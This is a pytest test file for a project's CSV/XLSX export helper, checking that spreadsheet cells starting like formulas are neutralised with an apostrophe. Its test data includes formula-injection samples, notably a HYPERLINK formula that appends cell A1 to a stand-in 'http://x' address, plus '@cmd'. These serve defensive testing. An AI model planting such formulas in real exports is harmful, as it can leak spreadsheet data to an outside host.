"""The one CSV/XLSX writer: every text cell is safe to open in a spreadsheet."""

import io
from decimal import Decimal

import openpyxl
import pytest

from smartcity.exports import safe_cell, table_bytes, table_response

HEADER = ["region_code", "name", "score"]


def csv_lines(**kwargs) -> list[str]:
    return table_bytes(header=HEADER, fmt="csv", **kwargs).decode("utf-8").splitlines()


def xlsx_values(**kwargs) -> list[list]:
    data = table_bytes(header=HEADER, fmt="xlsx", **kwargs)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_gets_an_apostrophe(start):
    assert safe_cell(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"


@pytest.mark.parametrize("text", ["Kabupaten Sukoharjo", "33.11", "a=b", " =x", "", "'=x"])
def test_other_text_is_left_alone(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("number", [-3, -0.25, Decimal("-1.5000"), 0, 42])
def test_numbers_are_never_altered(number):
    assert safe_cell(number) is number


def test_a_lazy_label_is_neutralised_like_text():
    from django.utils.functional import lazy

    assert safe_cell(lazy(lambda: "=1+1", str)()) == "'=1+1"


def test_csv_neutralises_text_and_keeps_numbers():
    lines = csv_lines(
        rows=[["33.11", '=HYPERLINK("http://x"&A1,"klik")', -2], ["32.73", "-x", None]]
    )
    assert lines == [
        "region_code,name,score",
        '33.11,"\'=HYPERLINK(""http://x""&A1,""klik"")",-2',
        "32.73,'-x,",
    ]


def test_csv_keeps_number_columns_as_written_even_when_negative():
    lines = csv_lines(rows=[["33.11", "x", "-0.1200"]], number_columns={"score"})
    assert lines[1] == "33.11,x,-0.1200"


def test_a_number_column_refuses_text():
    with pytest.raises(ValueError):
        csv_lines(rows=[["33.11", "x", "=1+1"]], number_columns={"score"})


def test_csv_has_a_byte_order_mark_only_when_asked():
    rows = [["33.11", "Sukoharjo", 1]]
    assert table_bytes(header=HEADER, rows=rows, fmt="csv", bom=True).startswith(b"\xef\xbb\xbf")
    assert table_bytes(header=HEADER, rows=rows, fmt="csv").startswith(b"region_code")


def test_xlsx_neutralises_text_and_writes_numbers_as_numbers():
    values = xlsx_values(
        rows=[["33.11", "=1+1", "-0.5000"], ["32.73", "@cmd", ""], ["11.71", "\tx", -3]],
        number_columns={"score"},
    )
    assert values == [
        HEADER,
        ["33.11", "'=1+1", -0.5],
        ["32.73", "'@cmd", None],
        ["11.71", "'\tx", -3],
    ]


def test_xlsx_text_is_never_stored_as_a_formula():
    data = table_bytes(header=HEADER, rows=[["33.11", "=1+1", 1]], fmt="xlsx")
    cell = openpyxl.load_workbook(io.BytesIO(data)).active["B2"]
    assert cell.data_type == "s"


def test_an_unknown_format_is_refused():
    with pytest.raises(ValueError, match="ods"):
        table_bytes(header=HEADER, rows=[], fmt="ods")


def test_the_response_is_a_named_download_with_the_sheet_named_after_it():
    response = table_response(
        filename="asesmen-2018-hasil", header=HEADER, rows=[["33.11", "x", 1]], fmt="xlsx"
    )
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"] == 'attachment; filename="asesmen-2018-hasil.xlsx"'
    assert openpyxl.load_workbook(io.BytesIO(response.content)).active.title == (
        "asesmen-2018-hasil"
    )
